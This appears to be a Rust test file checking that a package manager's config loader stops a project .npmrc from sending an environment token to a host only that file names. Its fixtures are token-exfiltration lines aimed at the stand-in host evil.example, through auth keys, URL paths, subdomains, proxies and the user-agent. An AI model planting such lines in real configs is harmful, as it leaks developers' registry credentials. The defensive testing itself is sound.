//! A project's `.npmrc` cannot send a value of the environment to a host that only it names.

mod common;

use common::{Place, header, url};
use utoo_config::public_registry;

const PROJECT: &str = "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n";

fn place() -> Place {
    Place::new().env("NPM_TOKEN", "hunter2")
}

#[test]
fn a_token_of_the_environment_is_withheld_and_said_so() {
    for key in ["_authToken", "_auth", "_password", "username"] {
        let config = place()
            .project(&format!("registry=https://evil.example/\n//evil.example/:{key}=${{NPM_TOKEN}}"))
            .load();
        assert_eq!(header(&config, "https://evil.example/foo"), "-", "{key}");
        assert_eq!(config.warnings().len(), 1);
        assert!(config.warnings()[0].message.contains("${NPM_TOKEN}"));
        let withheld = config.withheld_for(&url("https://evil.example/foo")).unwrap();
        assert_eq!(withheld.key, format!("//evil.example/:{key}"));
        assert!(!format!("{withheld:?}{:?}", config.warnings()).contains("hunter2"));
    }
}

#[test]
fn the_user_can_name_the_host() {
    for allowed in [
        place().user("registry=https://evil.example/"),
        place().user("@corp:registry=https://evil.example/npm/"),
        place().user("//evil.example/other/:_authToken=x"),
        place().user("trusted-registries=one.example,evil.example"),
        place().global("trusted-registries[]=https://evil.example/"),
        place().env("NPM_CONFIG_REGISTRY", "https://evil.example"),
        place().env("npm_config_trusted_registries", "evil.example"),
        place().flag("registry", "https://evil.example/"),
    ] {
        let config = allowed.project(PROJECT).load();
        assert_eq!(header(&config, "https://evil.example/foo"), "Bearer hunter2");
        assert_eq!(config.warnings(), []);
    }
}

#[test]
fn the_public_registry_is_named_by_everyone() {
    let public = public_registry();
    let path = public.as_str().trim_start_matches("https:");
    let config = place().project(&format!("{path}:_authToken=${{NPM_TOKEN}}")).load();
    assert_eq!(header(&config, public.join("foo").unwrap().as_str()), "Bearer hunter2");
}

#[test]
fn the_project_cannot_name_it_for_the_user() {
    for more in
        ["trusted-registries=evil.example", "userconfig=posing", "globalconfig=posing", "prefix=prefix"]
    {
        let posing = "trusted-registries=evil.example\n//evil.example/:_authToken=${NPM_TOKEN}\n";
        let config = place()
            .file("project/posing", posing)
            .file("project/prefix/etc/npmrc", posing)
            .project(&format!("{PROJECT}{more}\n"))
            .load();
        assert_eq!(header(&config, "https://evil.example/foo"), "-", "{more}");
    }
}

#[test]
fn another_port_or_host_is_another_host() {
    let config = place()
        .user("registry=https://good.example:8443/")
        .project("//good.example/:_authToken=${NPM_TOKEN}\n//evil.good.example:8443/:_authToken=${NPM_TOKEN}")
        .load();
    assert_eq!(header(&config, "https://good.example/foo"), "-");
    assert_eq!(header(&config, "https://evil.good.example:8443/foo"), "-");
    assert_eq!(config.warnings().len(), 2);
}

#[test]
fn a_literal_of_the_project_is_its_own() {
    let config = place().project("//evil.example/:_authToken=literal").load();
    assert_eq!(header(&config, "https://evil.example/foo"), "Bearer literal");
}

#[test]
fn an_unset_variable_sends_its_own_name_as_npm_does() {
    let config = Place::new().project("//evil.example/:_authToken=${NPM_TOKEN}").load();
    assert_eq!(header(&config, "https://evil.example/foo"), "Bearer ${NPM_TOKEN}");
}

#[test]
fn urls_are_no_way_around_it() {
    for (key, line) in [
        ("registry", "registry=https://evil.example/${NPM_TOKEN}/"),
        ("registry", "registry=https://${NPM_TOKEN}.evil.example/"),
        ("registry", "registry=https://${NPM_TOKEN}@evil.example/"),
        ("@s:registry", "@s:registry=https://evil.example/${NPM_TOKEN}/"),
        ("proxy", "proxy=http://u:${NPM_TOKEN}@evil.example:80"),
        ("https-proxy", "https-proxy=${NPM_TOKEN}.evil.example:80"),
        ("user-agent", "user-agent=${NPM_TOKEN}"),
    ] {
        let (code, message) = place().project(line).error();
        assert_eq!(code, "EUNTRUSTEDENV", "{line}");
        let expected =
            format!("project/.npmrc:1: {key} would send ${{NPM_TOKEN}} to a host that only this file names");
        assert_eq!(message, expected);
    }
}

#[test]
fn the_environment_may_name_the_registry_itself() {
    for (value, line) in
        [("https://corp.example/npm", "registry=${REG}"), ("https://corp.example", "registry=${REG}/npm")]
    {
        let config = Place::new().env("REG", value).project(line).load();
        assert_eq!(config.default_registry().as_str(), "https://corp.example/npm/");
    }
    // Only the scheme, or a host that goes on behind the variable, is not naming it.
    for (value, line) in
        [("https", "registry=${REG}://evil.example/"), ("https://a", "registry=${REG}.evil.example/")]
    {
        assert_eq!(Place::new().env("REG", value).project(line).error().0, "EUNTRUSTEDENV", "{line}");
    }
}
